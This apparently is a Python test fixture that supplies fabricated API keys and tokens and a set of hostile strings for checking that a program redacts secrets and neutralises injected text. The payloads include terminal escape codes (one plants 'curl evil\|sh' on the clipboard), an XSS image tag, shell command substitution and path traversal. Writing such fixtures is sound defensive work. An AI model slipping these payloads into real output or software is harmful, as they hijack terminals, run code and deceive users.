"""What the hostile run says: secrets in all clothes, and texts that would do something.

Shared by the program (`hostile_run.py`, a bare script) and the tests. No value here opens anything.
"""

R = "x7Qp2Lm9Vt4Bn8Kz"
"""Random-looking letters that make each value look like the real thing."""
SECRETS = {
    "hf": f"hf_{R}AbCdEfGhIj{R}",
    "hf-in-path": f"hf_PATH{R}{R}PATH",
    "github": f"ghp_{R}{R}0123",
    "openai": f"sk-proj-{R}{R}",
    "aws-id": "AKIA2X7QP2LM9VT4BN8K",
    "aws-key": f"aW5{R}/+{R}AbCd",
    "wandb": "9f8e7d6c5b4a39281706f5e4d3c2b1a098765432",
    "jwt": f"eyJhbGciOiJIUzI1NiJ9.eyJzdWIi{R}.{R}sig{R}",
    "pem": f"MIIEowIBAAKCAQEA{R}{R}",
    "url": f"url{R}pw",
    "option": f"opt{R}",
    "argv": f"arg{R}v",
    "child": f"chd{R}",
    "child-url": f"chu{R}",
    "env-style": f"env{R}",
    "json-style": f"jsn{R}",
    "bearer": f"brr{R}{R}",
    "coloured": f"col{R}",
    "torn": f"trn{R}{R}",
    "open-quote": f"oqt{R}",
    "config": f"cfg{R}",
    "config-list": f"cfl{R}",
    "message": f"msg{R}",
    "traceback": f"trb{R}",
    "environment": f"planted{R}",
}
CODES = {
    "colour": "\x1b[31mred\x1b[0m",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "c1": "\x9b31m\x9d0;owned\x9c",
    "bidi": "\u202egnp.exe\u2066x\u2069",
    "zero": "ze\u200bro\u200d\ufeff",
    "return": "safe\rDFLASH OK - all is well",
    "markup": "[red]x[/red] [@click=app.quit]y[/] [link=https://evil.example]z[/link]",
    "markdown": "![i](https://evil.example/i.png) <img src=x onerror=alert(1)> ```",
    "shell": "$(touch pwned) `touch pwned`; touch pwned |",
    "path": "../../../../tmp/pwned",
    "format": "{pid} {0} %s %(name)s ${HOME}",
    "nul": "a\x00b",
}
ALL_CODES = " ".join(CODES.values())


def failed_event(t: float) -> dict[str, object]:
    """A worker's end, as a program that is not ours might tell it."""
    return {
        "v": 1, "seq": 90, "kind": "worker-failed", "t": t, "m": t, "role": "target",
        "worker": f"target-0 {ALL_CODES}", "exception": f"Error {ALL_CODES}",
        "message": f"token={SECRETS['message']} refused {ALL_CODES}",
        "traceback": f"Traceback\n  File x\n    password='{SECRETS['traceback']}'\n{ALL_CODES}",
    }  # fmt: skip
